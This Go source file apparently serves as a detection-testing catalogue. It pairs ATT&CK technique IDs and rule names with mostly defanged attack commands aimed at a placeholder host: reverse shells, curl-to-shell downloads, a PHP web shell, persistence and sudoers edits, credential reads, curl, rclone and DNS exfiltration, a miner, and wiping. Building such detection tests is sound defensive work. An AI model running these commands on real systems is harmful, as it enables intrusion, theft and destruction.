package emulation

// The addresses of the stage. All are its own.
const (
	attacker = "198.51.100.1" // nothing private, as the rules see it
	inside   = "10.66.0.1"
	metadata = "169.254.169.254"
)

func execution() []Technique {
	return []Technique{
		{"T1059.004", "bash gives itself to a listener through /dev/tcp", "reverse_shell_dev_tcp",
			`bash -c 'bash -i >& /dev/tcp/198.51.100.1/4444 0>&1'`},
		{"T1059", "perl ties a shell to a socket", "reverse_shell_interpreter",
			`perl -e 'use IO::Socket::INET; $c = IO::Socket::INET->new("198.51.100.1:4444") or die; open STDIN, "<&", $c; open STDOUT, ">&", $c; exec {"/bin/sh"} "sh", "-i"'`},
		{"T1027", "a reverse shell in base64 is decoded and run", "encoded_reverse_shell",
			`line=$(echo 'bash -i >& /dev/tcp/198.51.100.1/4444 0>&1' | base64 -w0); bash -c "echo $line | base64 -d | bash"`},
		{"T1140", "base64 is decoded into a shell", "decoded_and_run",
			`bash -c 'echo aWQgPi9kZXYvbnVsbA== | base64 -d | sh'`},
		{"T1105", "a script is downloaded straight into a shell", "download_piped_to_shell",
			`sh -c 'curl -s http://198.51.100.1/x.sh | sh'`},
		{"T1505.003", "a web server is made to write a script into what it serves", "web_shell_written",
			`nginx & echo '<?php system($_GET["c"]);' >/tmp/x.php; curl -s -T /tmp/x.php http://127.0.0.1:8080/x.php; test -s /var/www/html/x.php`},
		{"T1190", "a web server is made to start a shell", "shell_of_web_server",
			`nginx & curl -s 'http://127.0.0.1:8080/?c=id' | grep -q uid=`},
	}
}

func persistence() []Technique {
	return []Technique{
		{"T1053.003", "a file of cron is written", "cron_file_written",
			`mkdir -p /etc/cron.d; echo '* * * * * root /tmp/x' >/etc/cron.d/x`},
		{"T1543.002", "a unit of systemd is written", "systemd_unit_written",
			`mkdir -p /etc/systemd/system; printf '[Service]\nExecStart=/tmp/x\n' >/etc/systemd/system/x.service`},
		{"T1098.004", "a key is added to root's authorized_keys", "authorized_keys_written",
			`mkdir -p /root/.ssh; echo 'ssh-ed25519 AAAA x' >>/root/.ssh/authorized_keys`},
		{"T1098", "an account is put into the group of disks", "account_made_powerful",
			`usermod -aG disk games`},
		{"T1136.001", "an account is made", "account_created",
			`useradd -M mallory`},
		{"T1546.004", "a file that every shell reads is written", "shell_profile_written",
			`mkdir -p /etc/profile.d; echo true >/etc/profile.d/x.sh`},
		{"T1546.016", "a hook of the package tools is written", "package_hook_written",
			`mkdir -p /etc/apt/apt.conf.d; echo 'APT::Update::Pre-Invoke {"true"};' >/etc/apt/apt.conf.d/99x`},
		{"T1546.017", "a rule of udev is written", "udev_rule_written",
			`mkdir -p /etc/udev/rules.d; echo 'RUN+="/tmp/x"' >/etc/udev/rules.d/99-x.rules`},
		{"T1547.013", "a program is made to start with the desktop of a user", "autostart_written",
			`mkdir -p /home/alice/.config/autostart; echo '[Desktop Entry]' >/home/alice/.config/autostart/x.desktop`},
		{"T1037.004", "a script that runs at boot is written", "boot_script_written",
			`echo true >/etc/rc.local`},
		{"T1556.003", "what decides who may log in is changed", "pam_written",
			`mkdir -p /etc/pam.d; echo 'auth sufficient pam_permit.so' >>/etc/pam.d/sshd`},
	}
}

func privilege() []Technique {
	return []Technique{
		{"T1574.006", "the file that loads a library into every program is written", "preload_file_written",
			`echo /tmp/x.so >/etc/ld.so.preload`},
		{"T1548.001", "a copy of a shell in /tmp gets the set-user-id bit, without chmod", "setuid_file_appears",
			`cp /bin/sh /tmp/rootsh; perl -e 'chmod 04755, "/tmp/rootsh" or die'`},
		{"T1548.003", "what sudo allows is written", "sudoers_written",
			`mkdir -p /etc/sudoers.d; echo 'games ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/x`},
		{"T1068", "a process that gave up root is root again, without a program that may do that", "root_from_nowhere",
			`exploit`},
		{"T1611", "a namespace of the host's first process is to be entered", "namespaces_of_init_entered",
			`nsenter -t 1 -u true || true`},
		{"T1055.008", "a process is taken hold of with ptrace", "process_taken_hold_of",
			`sleep 60 & inject $!; kill $!`},
		{"T1055.009", "the memory of another process is written through /proc", "memory_of_other_written",
			`sleep 60 & poke $!; kill $!`},
	}
}

func evasion() []Technique {
	return []Technique{
		{"T1014", "an unknown program loads BPF", "bpf_program_by_stranger",
			`kit`},
		{"T1547.006", "a kernel module is handed to the kernel, which refuses it", "insmod_used",
			`echo no module >/tmp/rk.ko; insmod /tmp/rk.ko`},
		{"T1070.003", "the history of a shell is cleared", "history_cleared",
			`echo id >/root/.bash_history; bash -c 'set +o history; history -c; unset HISTFILE; rm -f /root/.bash_history'`},
		{"T1070.002", "the log of logins is removed", "log_file_removed",
			`rm -f /var/log/auth.log; test ! -e /var/log/auth.log`},
		{"T1070.004", "a program is started after its file was removed", "program_removed_while_running",
			`cp /bin/true /tmp/x; exec 9</tmp/x; rm /tmp/x; /proc/self/fd/9`},
		{"T1070.006", "a file is given the times of another", "times_of_file_changed",
			`echo x >/tmp/x; touch -r /bin/sh /tmp/x`},
		{"T1222.002", "a file in /tmp is made a program", "made_runnable_in_tmp",
			`cp /bin/true /tmp/x; chmod +x /tmp/x`},
		{"T1620", "a program runs that never was a file", "program_from_memory",
			`perl -e '$n = "x"; $fd = syscall(319, $n, 0); open F, "<", "/bin/true"; undef $/; open O, ">&=", $fd; print O <F>; O->flush; exec {"/proc/$$/fd/$fd"} "update"'`},
		{"T1564", "a program runs from shared memory", "program_in_shared_memory",
			`cp /bin/true /dev/shm/update; /dev/shm/update`},
		{"T1564.001", "a program runs from a hidden folder in /tmp", "program_in_hidden_tmp",
			`mkdir /tmp/.x; cp /bin/true /tmp/.x/update; /tmp/.x/update`},
		{"T1036", "a program runs from a folder called ...", "folder_of_dots",
			`mkdir -p /home/alice/...; cp /bin/true /home/alice/.../update; /home/alice/.../update`},
		{"T1036.004", "a program calls itself like a thread of the kernel", "dressed_as_kernel_thread",
			`(exec -a '[kworker/0:1]' sleep 0.01)`},
		{"T1562.001", "a security tool is to be stopped; nobody is there to do it", "security_tool_stopped",
			`systemctl stop falco || true`},
		{"T1562.012", "auditing is to be stopped; nobody is there to do it", "logging_stopped",
			`systemctl stop auditd || true`},
		{"T1562.004", "the firewall is emptied", "firewall_opened",
			`nft flush ruleset`},
	}
}

func credentials() []Technique {
	return []Technique{
		{"T1003.008", "the file of password hashes is read", "shadow_read",
			`cat /etc/shadow >/dev/null`},
		{"T1003.007", "the memory of a process is read", "process_memory_dumped",
			// The maps of a process in the middle of its exec are empty.
			`sleep 60 & for _ in {1..100}; do dd if=/proc/$!/maps of=/tmp/maps 2>/dev/null; test -s /tmp/maps && break; done; kill $!; test -s /tmp/maps`},
		{"T1552.004", "keys are searched for", "secrets_searched",
			`find /home -name id_ed25519 | grep -q alice`},
		{"T1528", "the token of a service account is read", "service_account_token_read",
			`cat /run/secrets/kubernetes.io/serviceaccount/token >/dev/null`},
		{"T1552.005", "the cloud's metadata is asked for credentials", "cloud_metadata_asked",
			`curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/`},
		{"T1110", "passwords are guessed", "credential_tool",
			`printf 'a\nb\nsecret\n' >/tmp/list; hydra -l root -P /tmp/list http://198.51.100.1/login`},
		{"T1040", "the network is listened to", "traffic_captured",
			`tcpdump -i lo -w /tmp/x.pcap & sleep 0.1; until test -s /tmp/x.pcap; do curl -s http://198.51.100.1/; done`},
	}
}

func discovery() []Technique {
	return []Technique{
		{"T1082", "many questions about the system", "discovery_in_a_row",
			`for n in 1 2; do id; whoami; uname -a; df; env; groups; who; done`},
		{"T1046", "one program tries many hosts", "many_hosts_tried",
			`perl -e 'use IO::Socket::INET; IO::Socket::INET->new(PeerAddr => "10.66.1.$_", PeerPort => 445, Timeout => 1) for 1 .. 120; exit 0'`},
		{"T1021.004", "one account goes to many hosts by SSH's port", "ssh_to_many_hosts",
			`perl -e 'use IO::Socket::INET; IO::Socket::INET->new(PeerAddr => "10.66.2.$_", PeerPort => 22, Timeout => 1) for 1 .. 24; exit 0'`},
	}
}

func command() []Technique {
	return []Technique{
		{"T1560.001", "a folder of keys is packed up", "archive_of_secrets",
			`tar czf /tmp/x.tgz /home/alice/.ssh 2>/dev/null`},
		{"T1048", "a file is sent away", "upload_by_curl",
			`echo loot >/tmp/x.tgz; curl -s -T /tmp/x.tgz http://198.51.100.1/x.tgz`},
		{"T1567.002", "files are sent to a store in the cloud", "upload_by_cloud_tool",
			`echo loot >/tmp/x.tgz; rclone copy /tmp/x.tgz store:loot`},
		{"T1071.004", "data is carried in names that are asked for", "tunnel_in_names",
			`for i in $(seq 110); do echo "$(printf %s "part $i of the loot" | base64 | tr A-Z= a-zx).t.example"; done >/tmp/names; dig -f /tmp/names TXT`},
		{"T1090.003", "a hidden service is asked for", "hidden_service_name",
			`echo exampleexampleab.onion >/tmp/names; dig -f /tmp/names A`},
		{"T1572", "a tunnel is opened to the outside", "tunnel_tool",
			`chisel client 198.51.100.1:4443 R:socks`},
		{"T1571", "netcat waits for a connection", "netcat_listens",
			`nc -l -p 4445 & sleep 0.05; nc 198.51.100.1 4445 </dev/null`},
	}
}

func impact() []Technique {
	return []Technique{
		{"T1496.001", "a miner logs in at a pool and works", "miner_command_line",
			`xmrig -o stratum+tcp://198.51.100.1:3333 -u x`},
		{"T1486", "every document of a user gets another name", "files_renamed_in_a_row",
			`cd /home/alice; touch $(seq -f %g.odt 450); perl -e 'rename $_, "$_.locked" or die for glob "*.odt"'`},
		{"T1485", "everything is removed, of what is there for it", "everything_removed",
			`mkdir /tmp/all; touch /tmp/all/1; rm -rf --no-preserve-root /tmp/all; test ! -e /tmp/all`},
		{"T1561.001", "a disk is overwritten; it is a file in memory", "disk_wiped",
			`truncate -s 1M /dev/sdz; dd if=/dev/zero of=/dev/sdz bs=64k count=16 conv=notrunc 2>/dev/null`},
	}
}
